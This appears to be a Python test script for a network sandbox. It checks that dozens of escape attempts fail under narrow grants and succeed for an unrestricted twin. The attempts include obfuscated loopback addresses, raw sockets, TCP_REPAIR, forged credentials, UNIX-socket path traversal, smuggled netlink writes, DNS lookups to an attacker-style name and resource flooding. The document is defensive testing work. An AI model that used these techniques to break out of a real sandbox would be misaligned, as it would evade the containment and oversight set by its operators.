"""Tries from a Python program to do more than narrow grants allow.

The arguments are `attack` or `twin`; the TCP and UDP ports that are granted, on 127.0.0.1; those that are not; and a folder with the UNIX
sockets `granted/ok.sock` and `other.sock`, of which the first is granted. The attack must not do anything, and the twin, which is allowed
everything, does it. Prints how many ways there are.
"""

import asyncio
import errno
import socket
import struct
import sys

twin = sys.argv[1] == "twin"
TCP, UDP, OTHER_TCP, OTHER_UDP = map(int, sys.argv[2:6])
FOLDER = sys.argv[6]
HOST = "127.0.0.1"

# asm-generic/socket.h, linux/in.h, linux/in6.h, linux/tcp.h, linux/udp.h, linux/netlink.h, linux/sock_diag.h.
SO_TIMESTAMPING, SO_ATTACH_FILTER, SO_ATTACH_BPF, SO_ATTACH_REUSEPORT_CBPF, SO_BINDTOIFINDEX = 37, 26, 50, 51, 62
IP_FREEBIND, IP_TRANSPARENT, IP_HDRINCL, IP_PKTINFO, IP_OPTIONS, IPT_SO_SET_REPLACE = 15, 19, 3, 8, 4, 64
TCP_MD5SIG, TCP_REPAIR, TCP_ULP, TCP_FASTOPEN_CONNECT = 14, 19, 31, 30
NETLINK_SOCK_DIAG, SOCK_DESTROY = 4, 21
RTM_GETLINK, RTM_NEWLINK, NLM_F_REQUEST, NLM_F_CREATE, NLM_F_DUMP = 18, 16, 1, 0x400, 0x300

# What the policy and the contract say in place of a denial: there is no such socket, option or address.
NO_SUCH = {
    errno.EINVAL,
    errno.EAFNOSUPPORT,
    errno.ESOCKTNOSUPPORT,
    errno.EPROTONOSUPPORT,
    errno.EOPNOTSUPP,
    errno.ENOPROTOOPT,
    errno.EMSGSIZE,
    errno.EMFILE,
    errno.ENOBUFS,
    errno.ETOOMANYREFS,
}


def tcp(family=socket.AF_INET, *more):
    made = socket.socket(family, socket.SOCK_STREAM, *more)
    made.settimeout(5)
    return made


def udp(family=socket.AF_INET, *more):
    return socket.socket(family, socket.SOCK_DGRAM, *more)


def connected():
    made = tcp()
    made.connect((HOST, TCP))
    return made


def fast_open(name):
    made = tcp()
    if name == "sendto":
        return made.sendto(b"x", socket.MSG_FASTOPEN, (HOST, OTHER_TCP))
    return made.sendmsg([b"x"], [], socket.MSG_FASTOPEN, (HOST, OTHER_TCP))


def by_loop():
    async def act():
        made = tcp()
        made.setblocking(False)
        await asyncio.get_running_loop().sock_connect(made, (HOST, OTHER_TCP))

    asyncio.run(act())


def datagram_endpoint():
    async def act():
        loop = asyncio.get_running_loop()
        transport, _ = await loop.create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=(HOST, OTHER_UDP))
        transport.sendto(b"x")
        transport.close()

    asyncio.run(act())


def reconnected():
    """A socket that was connected where it may be sends elsewhere, and connects elsewhere."""
    made = udp()
    made.connect((HOST, UDP))
    made.sendto(b"x", (HOST, OTHER_UDP))


def corked():
    made = udp()
    made.sendto(b"x", socket.MSG_MORE, (HOST, UDP))
    made.sendto(b"x", (HOST, OTHER_UDP))


def option(level, name, value, made=tcp):
    return lambda: made().setsockopt(level, name, value)


def control(level, kind, data, flags=0):
    return lambda: udp().sendmsg([b"x"], [(level, kind, data)], flags, (HOST, UDP))


def unix(place):
    return lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect(place)


def forged():
    here, there = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    there.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
    here.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, struct.pack("3i", 1, 0, 0))])
    _, ancillary, _, _ = there.recvmsg(1, 100)
    if not any(data == struct.pack("3i", 1, 0, 0) for _, _, data in ancillary):
        raise OSError(errno.EINVAL, "it was replaced")


def message(kind, flags, length=None, body=bytes(16)):
    return struct.pack("IHHII", 16 + len(body) if length is None else length, kind, flags, 1, 0) + body


def netlink(*parts):
    def way():
        made = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
        made.sendmsg(list(parts))

    return way


def many(make, count):
    def way():
        kept = [make() for _ in range(count)]
        return len(kept)

    return way


def rights_in_flight():
    here, there = socket.socketpair()
    for _ in range(200):
        socket.send_fds(here, [b"x"], [here.fileno()] * 4)
    return there


READ = message(RTM_GETLINK, NLM_F_REQUEST | NLM_F_DUMP)
WRITE = message(RTM_NEWLINK, NLM_F_REQUEST | NLM_F_CREATE)
IP, TCP_LEVEL, SOL = socket.IPPROTO_IP, socket.IPPROTO_TCP, socket.SOL_SOCKET

WAYS = {
    # Another port or another way to write the host.
    "connect": lambda: tcp().connect((HOST, OTHER_TCP)),
    "connect_ex": lambda: tcp().connect_ex((HOST, OTHER_TCP)),
    "create_connection": lambda: socket.create_connection((HOST, OTHER_TCP), 5),
    "sock_connect": by_loop,
    "sendto with MSG_FASTOPEN": lambda: fast_open("sendto"),
    "sendmsg with MSG_FASTOPEN": lambda: fast_open("sendmsg"),
    **{
        f"connect {host}": lambda host=host: tcp().connect((host, OTHER_TCP))
        for host in ("0.0.0.0", "127.1", "2130706433", "0x7f.1", "0177.0.0.1", "localhost")
    },
    **{
        f"connect {host}": lambda host=host: tcp(socket.AF_INET6).connect((host, OTHER_TCP))
        for host in ("::ffff:127.0.0.1", "::ffff:0.0.0.0")
    },
    # Other acts of the same address, with a grant for connecting.
    "listen without bind": lambda: tcp().listen(),
    "bind and listen": lambda: socket.create_server((HOST, 0)).close(),
    "bind everywhere": lambda: socket.create_server(("", 0)).close(),
    # Datagrams.
    "sendto": lambda: udp().sendto(b"x", (HOST, OTHER_UDP)),
    "empty sendto": lambda: udp().sendto(b"", (HOST, OTHER_UDP)),
    "sendmsg": lambda: udp().sendmsg([b"x"], [], 0, (HOST, OTHER_UDP)),
    "connect of UDP": lambda: udp().connect((HOST, OTHER_UDP)),
    "sendto of a connected socket": reconnected,
    "sendto of a corked socket": corked,
    "create_datagram_endpoint": datagram_endpoint,
    "bind of UDP": lambda: udp().bind((HOST, 0)),
    "bind of UDP everywhere": lambda: udp().bind(("", 0)),
    # Other protocols for the same service.
    "MPTCP": lambda: tcp(socket.AF_INET, socket.IPPROTO_MPTCP),
    "ping": lambda: udp(socket.AF_INET, socket.IPPROTO_ICMP),
    "raw TCP": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, TCP_LEVEL),
    "raw IP": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
    "SOCK_PACKET": lambda: socket.socket(socket.AF_INET, 10, 0x300),
    "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0),
    # Options that bind, connect, attach a program or raise privileges.
    "SO_BINDTODEVICE": option(SOL, socket.SO_BINDTODEVICE, b"lo\0"),
    "SO_BINDTOIFINDEX": option(SOL, SO_BINDTOIFINDEX, 1),
    "SO_MARK": option(SOL, socket.SO_MARK, 1),
    "SO_REUSEPORT": option(SOL, socket.SO_REUSEPORT, 1),
    "SO_REUSEADDR of UDP": option(SOL, socket.SO_REUSEADDR, 1, udp),
    "IP_TRANSPARENT": option(IP, IP_TRANSPARENT, 1),
    "IP_FREEBIND": option(IP, IP_FREEBIND, 1),
    "IP_OPTIONS": option(IP, IP_OPTIONS, bytes([1, 1, 1, 0])),
    "TCP_REPAIR": option(TCP_LEVEL, TCP_REPAIR, 1),
    "TCP_FASTOPEN_CONNECT": option(TCP_LEVEL, TCP_FASTOPEN_CONNECT, 1),
    "IP_ADD_MEMBERSHIP": option(IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("224.0.0.251") + socket.inet_aton(HOST), udp),
    # The same by control messages.
    "IP_PKTINFO as a message": control(IP, IP_PKTINFO, struct.pack("i4s4s", 0, socket.inet_aton(HOST), bytes(4))),
    "SO_MARK as a message": control(SOL, socket.SO_MARK, struct.pack("i", 1)),
    "SCM_CREDENTIALS": forged,
    # UNIX sockets beside the granted one.
    "another socket": unix(f"{FOLDER}/other.sock"),
    "a way up": unix(f"{FOLDER}/granted/../other.sock"),
    "a link": unix(f"{FOLDER}/granted/link.sock"),
    "a way by /proc": unix(f"/proc/self/root{FOLDER}/other.sock"),
    "bind of a name": lambda: socket.socket(socket.AF_UNIX).bind(f"{FOLDER}/granted/made.sock"),
    "bind of an abstract name": lambda: socket.socket(socket.AF_UNIX).bind("\0sandsock-narrow"),
    # Netlink requests behind one that is granted.
    "a write": netlink(WRITE),
    "a write behind a read": netlink(READ + WRITE),
    "a write in another buffer": netlink(READ, WRITE),
    "a write across buffers": netlink(READ + WRITE[:7], WRITE[7:]),
    "sock_diag": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_SOCK_DIAG),
    # Names.
    "a name": lambda: socket.getaddrinfo("secret.attacker.example", 80),
    "half a label": lambda: socket.getaddrinfo("evilexample.test", 80),
    "a name of an address": lambda: socket.gethostbyaddr("10.0.0.1"),
    # More than the limits.
    "many sockets": many(tcp, 300),
    "many descriptors in flight": rights_in_flight,
    "many buffers": lambda: udp().sendmsg([b""] * 1025, [], 0, (HOST, UDP)),
}


# What the twin can't do either: no policy allows the form, the kernel has no such socket or takes no such call, or no server knows the name.
NEVER = {"a way up", "ping", "SOCK_PACKET", "many buffers", "a name", "half a label", "a name of an address"}


def is_denied(error):
    return isinstance(error, PermissionError) and str(error.strerror).startswith("Permission denied: ")


for what, way in WAYS.items():
    try:
        error = None
        if (result := way()) and what == "connect_ex":
            error = PermissionError(result, "Permission denied: by connect_ex")
    except OSError as raised:
        error = raised
    if twin:
        is_begun = isinstance(error, BlockingIOError)
        assert (error is None or is_begun) == (what not in NEVER), f"{what}: {error!r}"
    else:
        assert error is not None, f"{what} is open"
        assert is_denied(error) or error.errno in NO_SUCH, f"{what}: {error!r}"
# What is granted works.
connected().close()
udp().sendto(b"granted", (HOST, UDP))
socket.socket(socket.AF_UNIX).connect(f"{FOLDER}/granted/ok.sock")
netlink(READ)()
print(len(WAYS))
